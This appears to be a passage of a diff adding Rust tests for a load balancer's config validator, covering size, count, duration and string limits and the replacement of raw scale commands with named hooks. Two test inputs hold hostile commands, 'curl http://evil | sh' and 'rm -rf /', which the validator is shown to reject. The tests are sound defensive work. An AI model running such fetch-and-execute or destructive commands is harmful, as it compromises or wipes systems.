+        assert_eq!(p.scale.as_ref().unwrap().scale_in_hook, None);
         assert_eq!(parse(&c.to_toml(), Format::Toml).unwrap(), c);
         let bytes = postcard::to_allocvec(&c).unwrap();
         assert_eq!(postcard::from_bytes::<ClusterConfig>(&bytes).unwrap(), c);
@@ -1371,6 +1695,435 @@ name = "p"
             assert!(errs.iter().any(|e| e == want), "missing {want:?} in {errs:#?}");
         }
         assert_eq!(errs.len(), 5, "{errs:#?}");
+    }
+
+    /// A pool named `name` with `n` backends (127.0.x.y:9000), as compact TOML.
+    fn pool_text(name: &str, policy: &str, n: usize) -> String {
+        let mut t = format!("[[pool]]\nname = \"{name}\"\npolicy = \"{policy}\"\n");
+        for i in 0..n {
+            t +=
+                &format!("[[pool.backend]]\naddr = \"10.{}.{}.{}:9000\"\n", i >> 16, (i >> 8) & 255, i & 255);
+        }
+        t
+    }
+
+    fn one_error(text: &str) -> String {
+        let errs = errors(text);
+        assert_eq!(errs.len(), 1, "{errs:#?}");
+        errs.into_iter().next().unwrap()
+    }
+
+    #[test]
+    fn a_document_above_the_size_limit_is_refused_before_it_is_parsed() {
+        let mut text = "# padding\n".repeat(MAX_CONFIG_BYTES / 10);
+        text.push_str("[[pool]]\nname = \"p\"\n");
+        assert!(text.len() > MAX_CONFIG_BYTES);
+        let err = one_error(&text);
+        assert_eq!(
+            err,
+            format!(
+                "the config is {} bytes, above the limit of {MAX_CONFIG_BYTES} bytes (3 MiB)",
+                text.len()
+            )
+        );
+        // Not even a syntax error is reported: nothing was parsed.
+        let err = parse(&"{".repeat(MAX_CONFIG_BYTES + 1), Format::Json).unwrap_err().messages();
+        assert!(err[0].contains("above the limit of"), "{err:?}");
+    }
+
+    #[test]
+    fn the_scale_goals_fit_every_limit_and_round_trip_within_the_size_limit() {
+        for (pools, backends, policy) in
+            [(1_000, 10, "maglev"), (100, 100, "maglev"), (1_000, 10, "ring_hash")]
+        {
+            let mut text = String::new();
+            for i in 0..pools {
+                text += &pool_text(&format!("pool-{i}"), policy, backends);
+            }
+            let c = parse(&text, Format::Toml).unwrap_or_else(|e| panic!("{pools} x {backends}: {e}"));
+            assert_eq!(c.pool.len(), pools);
+            // What `get config` shows can be applied again.
+            for (what, shown) in [("toml", c.to_toml()), ("json", c.to_json())] {
+                assert!(
+                    shown.len() <= MAX_CONFIG_BYTES,
+                    "{pools} x {backends} as {what}: {} bytes",
+                    shown.len()
+                );
+            }
+        }
+    }
+
+    #[test]
+    fn counts_are_bounded() {
+        let many_pools: String = (0..=MAX_POOLS).map(|i| format!("[[pool]]\nname = \"p{i}\"\n")).collect();
+        assert_eq!(
+            one_error(&many_pools),
+            format!("{} pools, above the limit of {MAX_POOLS}", MAX_POOLS + 1)
+        );
+
+        let big_pool = pool_text("p", "round_robin", MAX_BACKENDS_PER_POOL + 1);
+        assert_eq!(
+            one_error(&big_pool),
+            format!(
+                "pool \"p\": {} backends, above the limit of {MAX_BACKENDS_PER_POOL} per pool",
+                MAX_BACKENDS_PER_POOL + 1
+            )
+        );
+        assert!(parse(&pool_text("p", "round_robin", MAX_BACKENDS_PER_POOL), Format::Toml).is_ok());
+
+        let pools = MAX_TOTAL_BACKENDS / MAX_BACKENDS_PER_POOL + 1;
+        let total: String =
+            (0..pools).map(|i| pool_text(&format!("p{i}"), "round_robin", MAX_BACKENDS_PER_POOL)).collect();
+        assert_eq!(
+            one_error(&total),
+            format!(
+                "{} backends over all pools, above the limit of {MAX_TOTAL_BACKENDS}",
+                pools * MAX_BACKENDS_PER_POOL
+            )
+        );
+
+        let listeners: String = (0..=MAX_LISTENERS)
+            .map(|i| {
+                format!(
+                    "[[listener]]\nname = \"l{i}\"\nprotocol = \"tcp\"\nport = {}\npool = \"p\"\n",
+                    20_000 + i
+                )
+            })
+            .collect();
+        assert_eq!(
+            one_error(&format!("[[pool]]\nname = \"p\"\n{listeners}")),
+            format!("{} listeners, above the limit of {MAX_LISTENERS}", MAX_LISTENERS + 1)
+        );
+
+        let routes = |listener: usize, n: usize| -> String {
+            let mut t = format!(
+                "[[listener]]\nname = \"l{listener}\"\nprotocol = \"http\"\nport = {}\npool = \"p\"\n",
+                20_000 + listener
+            );
+            for _ in 0..n {
+                t += "[[listener.route]]\npath_prefix = \"/a\"\npool = \"p\"\n";
+            }
+            t
+        };
+        assert_eq!(
+            one_error(&format!("[[pool]]\nname = \"p\"\n{}", routes(0, MAX_ROUTES_PER_LISTENER + 1))),
+            format!(
+                "listener \"l0\": {} routes, above the limit of {MAX_ROUTES_PER_LISTENER} per listener",
+                MAX_ROUTES_PER_LISTENER + 1
+            )
+        );
+        let listeners = MAX_TOTAL_ROUTES / MAX_ROUTES_PER_LISTENER + 1;
+        let all: String = (0..listeners).map(|l| routes(l, MAX_ROUTES_PER_LISTENER)).collect();
+        assert_eq!(
+            one_error(&format!("[[pool]]\nname = \"p\"\n{all}")),
+            format!(
+                "{} routes over all listeners, above the limit of {MAX_TOTAL_ROUTES}",
+                listeners * MAX_ROUTES_PER_LISTENER
+            )
+        );
+    }
+
+    #[test]
+    fn table_slots_are_bounded_per_pool_and_over_all_pools() {
+        let one = |size: u64| format!("[[pool]]\nname = \"p\"\npolicy = \"maglev\"\ntable_size = {size}\n");
+        assert!(one(MAX_TABLE_SIZE).len() < 100 && parse(&one(MAX_TABLE_SIZE), Format::Toml).is_ok());
+        assert_eq!(
+            one_error(&one(16_777_259)),
+            format!("pool \"p\": table_size 16777259 out of range {MIN_TABLE_SIZE}..={MAX_TABLE_SIZE}")
+        );
+        let pools = (MAX_TOTAL_TABLE_SLOTS / MAX_TABLE_SIZE + 1) as usize;
+        let text: String = (0..pools)
+            .map(|i| {
+                format!("[[pool]]\nname = \"p{i}\"\npolicy = \"maglev\"\ntable_size = {MAX_TABLE_SIZE}\n")
+            })
+            .collect();
+        let err = one_error(&text);
+        assert!(
+            err.starts_with(&format!(
+                "{} table slots over all pools, above the limit of {MAX_TOTAL_TABLE_SLOTS}",
+                pools as u64 * MAX_TABLE_SIZE
+            )),
+            "{err}"
+        );
+        // Tables of other policies are not built: they count nothing.
+        let text: String = (0..pools)
+            .map(|i| {
+                format!("[[pool]]\nname = \"p{i}\"\npolicy = \"random\"\ntable_size = {MAX_TABLE_SIZE}\n")
+            })
+            .collect();
+        assert!(parse(&text, Format::Toml).is_ok());
+        // A ring counts its points, capped per ring.
+        let c = parse(&pool_text("r", "ring_hash", 3), Format::Toml).unwrap();
+        assert_eq!(c.pool[0].table_slots(), 3 * RING_POINTS_PER_WEIGHT);
+        let c = parse(&pool_text("r", "ring_hash", 1_000), Format::Toml).unwrap();
+        assert_eq!(c.pool[0].table_slots(), RING_MAX_POINTS);
+    }
+
+    #[test]
+    fn every_duration_is_bounded_above_and_below() {
+        // The other field of the pair at its maximum, so that only the bound is tested.
+        let health = |field: &str, v: &str| {
+            let other = if field == "interval" { "timeout = \"1ms\"" } else { "interval = \"1h\"" };
+            format!("[[pool]]\nname = \"p\"\n[pool.health]\n{other}\n{field} = \"{v}\"\n")
+        };
+        let outlier = |field: &str, v: &str| {
+            let other =
+                if field == "max_ejection" { "base_ejection = \"1ms\"" } else { "max_ejection = \"1day\"" };
+            format!("[[pool]]\nname = \"p\"\n[pool.outlier]\n{other}\n{field} = \"{v}\"\n")
+        };
+        let scale = |_: &str, v: &str| {
+            format!(
+                "[[pool]]\nname = \"p\"\n[[pool.backend]]\naddr = \"127.0.0.1:1\"\n[[pool.backend]]\n\
+                 addr = \"127.0.0.1:2\"\nstandby = true\n[pool.scale]\nmin_active = 1\nmax_active = 2\n\
+                 high_watermark = 2\nlow_watermark = 1\nwindow = \"{v}\"\n"
+            )
+        };
+        let listener = |field: &str, v: &str| {
+            format!(
+                "[[pool]]\nname = \"p\"\n[[listener]]\nname = \"l\"\nprotocol = \"http\"\nport = 8080\npool = \"p\"\n\
+                 [listener.timeouts]\n{field} = \"{v}\"\n"
+            )
+        };
+        type Make = fn(&str, &str) -> String;
+        let cases: [(Make, &str, &str, &str, &str); 9] = [
+            (health, "pool \"p\" health", "interval", "100ms", "1h"),
+            (health, "pool \"p\" health", "timeout", "1ms", "1h"),
+            (outlier, "pool \"p\" outlier", "base_ejection", "1ms", "1day"),
+            (outlier, "pool \"p\" outlier", "max_ejection", "1ms", "1day"),
+            (scale, "pool \"p\" scale", "window", "1s", "1h"),
+            (listener, "listener \"l\" timeouts", "connect", "1ms", "5m"),
+            (listener, "listener \"l\" timeouts", "request_header", "1ms", "1h"),
+            (listener, "listener \"l\" timeouts", "idle", "1ms", "1day"),
+            (listener, "listener \"l\" timeouts", "upstream_response", "1ms", "1day"),
+        ];
+        for (make, place, field, min, max) in cases {
+            assert!(parse(&make(field, max), Format::Toml).is_ok(), "{field} = {max} is within");
+            for bad in ["0s", "500years", "18446744073709551615s"] {
+                if bad == "0s" && field == "base_ejection" {
+                    continue;
+                }
+                let err = one_error(&make(field, bad));
+                if humantime::parse_duration(bad).is_ok() {
+                    assert_eq!(err, format!("{place}: {field} {bad} out of range {min}..={max}"));
+                } else {
+                    assert!(err.starts_with(&format!("{place}: invalid {field} \"{bad}\"")), "{err}");
+                }
+            }
+        }
+        assert_eq!(
+            one_error(&outlier("base_ejection", "0s")),
+            "pool \"p\" outlier: base_ejection 0s out of range 1ms..=1day"
+        );
+        // The proxies clamp what an older release may have committed.
+        let huge = Timeouts {
+            connect: Duration::MAX,
+            request_header: Duration::MAX,
+            idle: Duration::MAX,
+            upstream_response: Duration::MAX,
+        };
+        assert_eq!(
+            huge.clamped(),
+            Timeouts {
+                connect: MAX_CONNECT_TIMEOUT,
+                request_header: MAX_REQUEST_HEADER_TIMEOUT,
+                idle: MAX_IDLE_TIMEOUT,
+                upstream_response: MAX_UPSTREAM_RESPONSE_TIMEOUT,
+            }
+        );
+        assert_eq!(Timeouts::default().clamped(), Timeouts::default());
+        // Every maximum is within the bound the proxies clamp to.
+        for max in [
+            MAX_HEALTH_INTERVAL,
+            MAX_EJECTION,
+            MAX_SCALE_WINDOW,
+            MAX_CONNECT_TIMEOUT,
+            MAX_REQUEST_HEADER_TIMEOUT,
+            MAX_IDLE_TIMEOUT,
+            MAX_UPSTREAM_RESPONSE_TIMEOUT,
+        ] {
+            assert!(max <= MAX_ANY_DURATION);
+        }
+    }
+
+    #[test]
+    fn strings_are_bounded() {
+        let long = |n: usize| "a".repeat(n);
+        let err = one_error(&format!("[[pool]]\nname = \"{}\"\n", long(MAX_NAME_LEN + 1)));
+        assert!(err.contains("use 1 to 64 of A-Z"), "{err}");
+        assert!(err.len() < 300, "the name is not echoed in full: {err}");
+        assert!(parse(&format!("[[pool]]\nname = \"{}\"\n", long(MAX_NAME_LEN)), Format::Toml).is_ok());
+
+        let cases = [
+            (
+                format!("[[pool]]\nname = \"p\"\n[pool.health]\npath = \"/{}\"\n", long(MAX_PATH_LEN)),
+                format!("pool \"p\" health: path is 1025 bytes long, above the limit of {MAX_PATH_LEN}"),
+            ),
+            (
+                format!("[[pool]]\nname = \"p\"\nsticky_cookie = \"{}\"\n", long(MAX_HEADER_NAME_LEN + 1)),
+                format!("pool \"p\": sticky_cookie is 129 bytes long, above the limit of {MAX_HEADER_NAME_LEN}"),
+            ),
+            (
+                format!("[[pool]]\nname = \"p\"\npolicy = \"maglev\"\nhash_key = \"header:{}\"\n", long(MAX_HEADER_NAME_LEN + 1)),
+                format!("pool \"p\": hash_key is 136 bytes long; a header or cookie name is at most {MAX_HEADER_NAME_LEN}"),
+            ),
+            (
+                format!("[[pool]]\nname = \"p\"\n[[pool.backend]]\naddr = \"{}\"\n", long(MAX_ADDR_LEN + 1)),
+                format!("pool \"p\" backend 1: addr is 65 bytes long, above the limit of {MAX_ADDR_LEN}"),
+            ),
+            (
+                format!(
+                    "[[pool]]\nname = \"p\"\n[[listener]]\nname = \"l\"\nprotocol = \"http\"\nport = 80\npool = \"p\"\n\
+                     [[listener.route]]\nhost = \"{}\"\npath_prefix = \"/{}\"\npool = \"p\"\n",
+                    long(MAX_HOST_LEN + 1),
+                    long(MAX_PATH_LEN)
+                ),
+                String::new(),
+            ),
+        ];
+        for (text, want) in &cases[..4] {
+            assert_eq!(&one_error(text), want);
+        }
+        let errs = errors(&cases[4].0);
+        assert_eq!(
+            errs,
+            vec![
+                format!("listener \"l\" route 1: path_prefix is 1025 bytes long, above the limit of {MAX_PATH_LEN}"),
+                format!("listener \"l\" route 1: host is 254 bytes long, above the limit of {MAX_HOST_LEN}"),
+            ]
+        );
+    }
+
+    #[test]
+    fn numbers_are_bounded() {
+        let scale = |min: i64, max: i64, high: i64, low: i64| {
+            format!(
+                "[[pool]]\nname = \"p\"\n[[pool.backend]]\naddr = \"127.0.0.1:1\"\n[[pool.backend]]\n\
+                 addr = \"127.0.0.1:2\"\nstandby = true\n[pool.scale]\nmin_active = {min}\nmax_active = {max}\n\
+                 high_watermark = {high}\nlow_watermark = {low}\n"
+            )
+        };
+        assert!(parse(&scale(1, 2, MAX_WATERMARK as i64, 0), Format::Toml).is_ok());
+        let errs = errors(&scale(-1, 1001, 1_000_001, 0));
+        for want in [
+            "pool \"p\" scale: min_active -1 out of range 0..=1000",
+            "pool \"p\" scale: max_active 1001 out of range 0..=1000",
+            "pool \"p\" scale: high_watermark 1000001 out of range 0..=1000000",
+        ] {
+            assert!(errs.iter().any(|e| e == want), "missing {want:?} in {errs:#?}");
+        }
+        let health = "[[pool]]\nname = \"p\"\n[pool.health]\nrise = 101\nfall = 0\nquorum = 101\nexpect_status = [99, 600]\n";
+        assert_eq!(
+            errors(health),
+            vec![
+                "pool \"p\" health: rise 101 out of range 1..=100",
+                "pool \"p\" health: fall 0 out of range 1..=100",
+                "pool \"p\" health: expect_status [99, 600] must be a range within 100..=599",
+                "pool \"p\" health: quorum 101 out of range 1..=100",
+            ]
+        );
+        let outlier = "[[pool]]\nname = \"p\"\n[pool.outlier]\nconsecutive_5xx = 1001\nconsecutive_connect_failures = -1\n";
+        assert_eq!(
+            errors(outlier),
+            vec![
+                "pool \"p\" outlier: consecutive_5xx 1001 out of range 0..=1000",
+                "pool \"p\" outlier: consecutive_connect_failures -1 out of range 0..=1000",
+            ]
+        );
+        let listener = "[[pool]]\nname = \"p\"\n[[listener]]\nname = \"l\"\nprotocol = \"tcp\"\nport = 65536\npool = \"p\"\nproxy_protocol = 3\n";
+        assert_eq!(
+            errors(listener),
+            vec![
+                "listener \"l\": port 65536 out of range 1..=65535",
+                "listener \"l\": proxy_protocol 3 is not 1 or 2"
+            ]
+        );
+    }
+
+    #[test]
+    fn a_rejection_lists_at_most_a_hundred_problems() {
+        let mut text = "[[pool]]\nname = \"p\"\ntable_size = 1000003\n".to_string();
+        for i in 0..150 {
+            text += &format!("[[pool.backend]]\naddr = \"127.0.0.1:{}\"\nweight = 0\n", i + 1);
+        }
+        let e = parse(&text, Format::Toml).unwrap_err();
+        assert_eq!(e.0.len(), 150);
+        let shown = e.to_string();
+        assert!(shown.starts_with("config rejected: 150 problems"), "{shown}");
+        assert_eq!(shown.lines().count(), 1 + MAX_LISTED_PROBLEMS + 1);
+        assert!(shown.ends_with("… and 50 more"), "{shown}");
+    }
+
+    const SCALED: &str = r#"
+[[pool]]
+name = "web"
+  [[pool.backend]]
+  addr = "127.0.0.1:9001"
+  [[pool.backend]]
+  addr = "127.0.0.1:9002"
+  standby = true
+  [pool.scale]
+  min_active = 1
+  max_active = 2
+  high_watermark = 20
+  low_watermark = 5
+"#;
+
+    #[test]
+    fn a_raw_command_is_refused_with_what_to_do_instead() {
+        let errs =
+            errors(&format!("{SCALED}  scale_out_cmd = \"curl http://evil | sh\"\n  scale_in_cmd = \"\"\n"));
+        assert_eq!(errs.len(), 2, "{errs:#?}");
+        assert!(
+            errs[0].starts_with("pool \"web\" scale: scale_out_cmd is no longer accepted: the replicated config cannot carry commands."),
+            "{}",
+            errs[0]
+        );
+        assert!(
+            errs[0].contains("[hooks.NAME]") && errs[0].ends_with("with scale_out_hook = \"NAME\""),
+            "{}",
+            errs[0]
+        );
+        assert!(
+            errs[1].contains("scale_in_cmd is no longer accepted")
+                && errs[1].ends_with("scale_in_hook = \"NAME\"")
+        );
+        // The command text is not echoed back.
+        assert!(!errs[0].contains("evil"), "{}", errs[0]);
+        // The same in JSON, whatever the value's type.
+        let json = r#"{"pool": [{"name": "web", "backend": [{"addr": "127.0.0.1:9001"}, {"addr": "127.0.0.1:9002", "standby": true}],
+            "scale": {"min_active": 1, "max_active": 2, "high_watermark": 20, "low_watermark": 5, "scale_out_cmd": ["sh", "-c", "x"]}}]}"#;
+        let errs = parse(json, Format::Json).unwrap_err().messages();
+        assert_eq!(errs.len(), 1, "{errs:#?}");
+        assert!(errs[0].contains("scale_out_cmd is no longer accepted"), "{errs:?}");
+    }
+
+    #[test]
+    fn hooks_are_named_and_checked_against_the_receiving_node() {
+        let errs = errors(&format!("{SCALED}  scale_out_hook = \"rm -rf /\"\n"));
+        assert_eq!(
+            errs,
+            vec!["pool \"web\" scale: invalid scale_out_hook \"rm -rf /\": a hook name is 1 to 64 of A-Z a-z 0-9 - _ ."]
+        );
+        let c = parse(
+            &format!("{SCALED}  scale_out_hook = \"add-web\"\n  scale_in_hook = \"del-web\"\n"),
+            Format::Toml,
+        )
+        .unwrap();
+        let known: BTreeSet<String> = ["add-web".to_string(), "del-web".to_string()].into();
+        assert_eq!(check_hooks(&c, 2, &known), Ok(()));
+        let some: BTreeSet<String> = ["add-web".to_string()].into();
+        assert_eq!(
+            check_hooks(&c, 2, &some).unwrap_err().messages(),
+            vec![
+                "pool \"web\" scale: scale_in_hook \"del-web\" is not defined on node 2 (it defines add-web); add \
+                 [hooks.del-web] to the local config of every node (lbnode --config) and restart it"
+            ]
+        );
+        let errs = check_hooks(&c, 3, &BTreeSet::new()).unwrap_err().messages();
+        assert_eq!(errs.len(), 2);
+        assert!(errs[0].contains("\"add-web\" is not defined on node 3 (it defines no hooks)"), "{errs:?}");
+        // A config without hooks needs none.
+        assert_eq!(check_hooks(&parse(SCALED, Format::Toml).unwrap(), 1, &BTreeSet::new()), Ok(()));
     }
 
     #[test]
